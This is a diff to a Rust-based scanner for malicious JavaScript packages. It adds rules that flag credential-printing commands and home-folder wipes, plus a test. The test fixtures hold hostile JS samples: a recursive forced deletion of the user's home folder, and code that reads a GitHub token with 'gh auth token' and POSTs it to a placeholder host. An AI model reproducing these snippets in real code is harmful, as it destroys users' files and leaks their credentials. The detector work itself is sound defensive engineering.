@@ -542,6 +542,18 @@ impl<'t> Js<'t> {
                     });
                 if names_secret { TAINT_STRONG } else { 0 }
             }
+            // A command whose output is a stored credential (`gh auth token`).
+            "child_process.execSync" | "child_process.execFileSync" => {
+                let cmd = call
+                    .child_by_field_name("arguments")
+                    .map(|a| self.loose_str(a))
+                    .unwrap_or_default();
+                if patterns::is_secret_command(&cmd) {
+                    TAINT_STRONG
+                } else {
+                    0
+                }
+            }
             _ => 0,
         }
     }
@@ -916,6 +928,22 @@ impl<'t> Walker<'_, 't> {
         let first = args.and_then(|a| a.named_child(0));
         let line = n.start_position().row as u32 + 1;
         let snip = snippet(text(n, js.src));
+        if matches!(
+            name.as_str(),
+            "fs.rmSync" | "fs.rm" | "fs.rmdirSync" | "fs.rmdir" | "fs.promises.rm" | "rimraf"
+        ) && let Some(a) = first
+            && patterns::is_wipe_target(&js.loose_str(a), text(a, js.src))
+        {
+            self.push(
+                "FILE-WIPE",
+                n,
+                scope,
+                format!(
+                    "deletes a whole home folder or drive: {}",
+                    snippet(text(a, js.src))
+                ),
+            );
+        }
         if name.starts_with("child_process.") && CHILD_PROCESS.contains(&last.as_str()) {
             self.push(
                 "JS-CHILD-PROCESS",
@@ -1325,6 +1353,35 @@ mod tests {
         };
         let facts = analyze(src.as_bytes(), &ctx, &mut sink);
         (sink.findings.iter().map(|r| r.rule).collect(), facts)
+    }
+
+    #[test]
+    fn home_wipes_and_stored_tokens_sent() {
+        let rules = |src: &str| run(src, Scope::INSTALL).0;
+        let os = "const fs = require('fs'); const os = require('os');\n";
+        assert!(
+            rules(&format!(
+                "{os}fs.rmSync(os.homedir(), {{ recursive: true, force: true }});"
+            ))
+            .contains(&"FILE-WIPE")
+        );
+        assert!(
+            !rules(&format!(
+                "{os}fs.rmSync(os.homedir() + '/.cache/x', {{ recursive: true }});"
+            ))
+            .contains(&"FILE-WIPE")
+        );
+        let cp = "const { execSync } = require('child_process'); const https = require('https');\n";
+        let sent = format!(
+            "{cp}const t = execSync('gh auth token').toString();\nconst r = https.request({{ hostname: 'x.test', method: 'POST' }});\nr.write(JSON.stringify({{ t }}));\n"
+        );
+        assert!(
+            rules(&sent).contains(&"EXFIL-SEND-COLLECTED"),
+            "{:?}",
+            rules(&sent)
+        );
+        let other = sent.replace("gh auth token", "git rev-parse HEAD");
+        assert!(!rules(&other).contains(&"EXFIL-SEND-COLLECTED"));
     }
 
     #[test]
